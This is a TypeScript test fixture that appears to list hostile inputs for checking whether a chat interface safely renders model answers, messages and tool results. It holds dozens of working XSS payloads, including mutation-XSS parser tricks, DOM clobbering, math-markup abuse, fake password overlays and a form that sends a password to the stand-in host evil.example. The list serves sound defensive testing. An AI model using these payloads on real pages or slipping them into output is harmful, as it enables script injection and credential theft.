/**
 * What an answer, a message or a tool's result may hold to act on the page: each sets `window.attacked`, fetches from
 * `evil.example`, or takes the page's place on the screen, wherever it is taken for more than text.
 */
const act = 'window.attacked=true';
const far = 'https://evil.example';

export const hostile: readonly string[] = [
  // scripts and handlers
  `<script>${act}</script>`,
  `<SCRIPT SRC="${far}/x.js"></SCRIPT>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<img src=x onerror="${act}">`,
  `<img src=x onerror=${act} `,
  `<body onload="${act}">`,
  `<details open ontoggle="${act}">x</details>`,
  `<video autoplay onloadstart="${act}"><source src=x onerror="${act}"></video>`,
  `<input autofocus onfocus="${act}">`,
  `<kbd onclick="${act}">x</kbd>`,
  `<mark style="animation: x" onanimationstart="${act}">x</mark>`,
  `<a href=x onmouseover="${act}">x</a>`,
  `<template><img src=x onerror="${act}"></template>`,
  // links
  `[click](javascript:${act})`,
  `[click](JaVaScRiPt&colon;${act})`,
  `[click](java&#x0A;script:${act})`,
  `[click](&#1;javascript:${act})`,
  `[click](vbscript:${act})`,
  `[x](data:text/html,<script>${act}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD50b3AuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==)`,
  `[x](blob:https://a.example/1)`,
  `[x](<https://ok.example" onclick="${act}>)`,
  `[x]: javascript:${act}\n\n[x]`,
  `<javascript:${act}>`,
  `<a href="javascript:${act}">x</a>`,
  `<a href="https://ok.example" target=_top ping="${far}">x</a>`,
  // pictures and other ways to fetch
  `![x](x" onerror="${act})`,
  `![tracker](${far}/pixel.png)`,
  `<link rel=stylesheet href="${far}/x.css"><link rel=prefetch href="${far}/p">`,
  `<meta http-equiv=refresh content="0;url=${far}">`,
  `<base href="${far}/">`,
  `<object data="${far}/x.svg"></object><embed src="${far}/x.svg">`,
  `<audio src="${far}/a.mp3" autoplay></audio>`,
  // frames and forms
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<form action="${far}"><input name=password><button>Go</button></form>`,
  `<button formaction="javascript:${act}">x</button>`,
  `<dialog open>Your session has ended. Enter your password.</dialog>`,
  // SVG and MathML
  `<svg onload="${act}">`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${act}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror='${act}'/></svg>#x"></svg>`,
  `<math href="javascript:${act}">x</math>`,
  `<math><maction actiontype="statusline#${far}" xlink:href="javascript:${act}">x</maction></math>`,
  `$\\href{javascript:${act}}{x}$`,
  `$$\\style{position:fixed;inset:0;background:url(${far}/x)}{x}$$`,
  `$\\includegraphics{${far}/x.png}$ $\\text{<img src=x onerror=${act}>}$`,
  `$$\\html{<img src=x onerror=${act}>}$$ $\\unicode{x3c}script\\unicode{x3e}$`,
  `$\\color{red;background:url(${far}/c)}{x}$ $\\def\\a{\\a\\a}\\a$`,
  `$$\\class{message}{x} \\id{attacked}{x} \\data{own=1}{x}$$`,
  // styles
  `<style>body { display: none } @import "${far}/x.css";</style>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:#fff">Enter your password</div>`,
  `<u style="background:url(${far}/u.png)">x</u>`,
  `<span class="hidden-but-spoken drop-here">x</span>`,
  // names that would take the place of the page's own
  `<a id=attacked name=body href="${far}">x</a>`,
  `<form id=document name=getElementById><input name=attributes><input name=parentNode></form>`,
  `<img name=cookie><a id=customElements></a><a id=customElements name=define></a>`,
  // what parsers read in two ways
  `<math><mtext><table><mglyph><style><img src=x onerror="${act}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<textarea></textarea><img src=x onerror=${act}></textarea>`,
  `<xmp><img src=x onerror=${act}></xmp><plaintext>`,
  `<!--><img src=x onerror=${act}>-->`,
  `<![CDATA[><img src=x onerror=${act}>]]>`,
  `<?xml-stylesheet href="javascript:${act}"?>`,
  `<a title="\n\n<img src=x onerror=${act}>">x</a>`,
  `<sub><table><td><sub></table><img src=x onerror=${act}>`,
  // code
  `\`\`\`html\n<script>${act}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${act}>\ncode\n\`\`\``,
  `\`\`\`html" onclick="${act}\n<b>\n\`\`\``,
  `\`\`\`xml\n<a onclick="${act}" class="</span><img src=x onerror=${act}>">\n\`\`\``,
  `\`<img src=x onerror=${act}>\``,
  `| a |\n|---|\n| <img src=x onerror=${act}> |`,
  `- [ ] <img src=x onerror=${act}>`,
  // elements of this page
  `<qwen-code-preview code="<script>${act}</script>"></qwen-code-preview>`,
  `<qwen-chat model="${far}/m.gguf"></qwen-chat>`,
  `<button data-copy data-preview>Copy</button>`,
];
